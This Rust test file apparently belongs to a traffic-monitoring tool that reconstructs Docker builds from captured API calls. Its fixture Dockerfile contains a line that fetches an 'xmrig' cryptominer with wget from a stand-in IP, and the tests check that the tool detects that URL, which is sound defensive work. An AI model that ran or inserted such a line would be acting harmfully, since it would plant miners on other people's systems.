//! A context that comes by a call of its own.

use tw_model::{Frontend, Outcome};
use tw_proto::{BodyEnd, HttpEventKind};

use super::{Conn, DAEMON, Driver, tar};

const TAR: &[(&str, &str)] = &[("content-type", "application/x-tar")];
const DOCKERFILE: &str = "FROM alpine:3.18\nRUN wget http://203.0.113.77/xmrig -O /x\n";
const BUILD: &str =
    "POST /v1.41/build?version=2&remote=upload-request&buildid=b1&session=s1&t=evil:1";
const UPLOAD: &str = "POST /v1.41/build?version=2&buildid=upload-request%3Ab1";

fn archive() -> Vec<u8> {
    tar(&[("Dockerfile", DOCKERFILE), ("run.sh", "#!/bin/sh\n")])
}

#[test]
fn two_calls_are_one_build_in_either_order() {
    for upload_first in [false, true] {
        let (mut d, build, upload) = (Driver::new(), Conn::docker(1), Conn::docker(2));
        if upload_first {
            d.request(upload, 0, UPLOAD, TAR, &archive());
            assert!(d.builds().is_empty(), "it may be another's");
        }
        d.request(build, 0, BUILD, &[], b"");
        if !upload_first {
            d.request(upload, 0, UPLOAD, TAR, &archive());
        }
        d.answer(upload, 0, 200, DAEMON, "");
        d.close(upload);
        d.answer(
            build,
            0,
            200,
            DAEMON,
            "{\"id\":\"moby.image.id\",\"aux\":{\"ID\":\"sha256:1\"}}\r\n",
        );
        d.close(build);
        let all = d.builds();
        assert_eq!(all.len(), 1, "{all:?}");
        let flows: Vec<u64> = all[0].calls.iter().map(|call| call.flow.0).collect();
        assert_eq!(flows, [1, 2]);
        assert_eq!(
            (&*all[0].tags, all[0].frontend),
            (&["evil:1".to_owned()][..], Frontend::Buildkit)
        );
        assert_eq!(all[0].dockerfile.as_deref(), Some(DOCKERFILE));
        assert_eq!(all[0].urls, ["http://203.0.113.77/xmrig"]);
        assert_eq!(all[0].context.as_ref().map(|context| context.files), Some(2));
        assert_eq!(all[0].remote, None);
    }
}

#[test]
fn an_upload_that_is_cut_gives_what_came() {
    let (mut d, build, upload) = (Driver::new(), Conn::docker(1), Conn::docker(2));
    d.request(build, 0, BUILD, &[], b"");
    d.request_head(upload, 0, UPLOAD, TAR);
    d.event(upload, 0, HttpEventKind::RequestBody(&archive()[..1100]));
    d.event(upload, 0, HttpEventKind::RequestEnd(BodyEnd::Cut));
    d.close(upload);
    d.close(build);
    let all = d.builds();
    assert_eq!(all.len(), 1, "{all:?}");
    assert_eq!(all[0].dockerfile.as_deref(), Some(DOCKERFILE));
}

#[test]
fn an_upload_for_another_dockerfile_says_nothing_of_it() {
    let (mut d, build, upload) = (Driver::new(), Conn::docker(1), Conn::docker(2));
    d.request(upload, 0, UPLOAD, TAR, &archive());
    d.request(build, 0, &format!("{BUILD}&dockerfile=other"), &[], b"");
    let all = d.builds();
    assert_eq!((all[0].dockerfile.as_deref(), all.len()), (None, 1));
    assert!(all[0].context.is_some());
}

/// A daemon that knows no uploads builds it.
#[test]
fn an_upload_alone_is_a_build() {
    let upload = Conn::docker(2);
    let mut d = Driver::new();
    d.request(upload, 0, UPLOAD, TAR, &archive());
    d.close(upload);
    assert_eq!(d.builds()[0].dockerfile.as_deref(), Some(DOCKERFILE));

    let mut d = Driver::new();
    d.request(upload, 0, UPLOAD, TAR, &archive());
    d.answer(upload, 0, 500, DAEMON, "{\"message\":\"context deadline exceeded\"}");
    d.close(upload);
    assert_eq!(d.builds()[0].outcome, Outcome::Failed);

    // The classic builder ignores the id.
    let mut d = Driver::new();
    let classic = "POST /build?buildid=upload-request:b1&t=evil:1";
    d.request(upload, 0, classic, TAR, &archive());
    assert_eq!(d.builds()[0].tags, ["evil:1"]);
}

#[test]
fn an_answer_with_steps_is_a_build_whatever_it_was_called() {
    let (mut d, build, upload) = (Driver::new(), Conn::docker(1), Conn::docker(2));
    d.request(build, 0, BUILD, &[], b"");
    d.request(upload, 0, UPLOAD, TAR, &archive());
    let steps = "{\"stream\":\"STEP 1/2: FROM alpine:3.18\\n\"}\r\n\
        {\"stream\":\"STEP 2/2: RUN wget http://203.0.113.77/xmrig -O /x\\n\"}\r\n";
    d.answer(upload, 0, 200, DAEMON, steps);
    d.close(upload);
    let all = d.builds();
    assert_eq!(all.len(), 2, "{all:?}");
    assert!(all.iter().all(|build| build.dockerfile.as_deref() == Some(DOCKERFILE)));
}

#[test]
fn a_second_upload_of_one_id_takes_nothing_from_the_first() {
    let (mut d, build) = (Driver::new(), Conn::docker(1));
    d.request(build, 0, BUILD, &[], b"");
    d.request(Conn::docker(2), 0, UPLOAD, TAR, &archive());
    d.request(Conn::docker(3), 0, UPLOAD, TAR, &tar(&[("Dockerfile", "FROM scratch\n")]));
    let all = d.builds();
    assert_eq!((all.len(), all[0].dockerfile.as_deref()), (1, Some(DOCKERFILE)));
    d.close(Conn::docker(3));
    assert_eq!(d.builds().len(), 2, "it is nobody's");
}
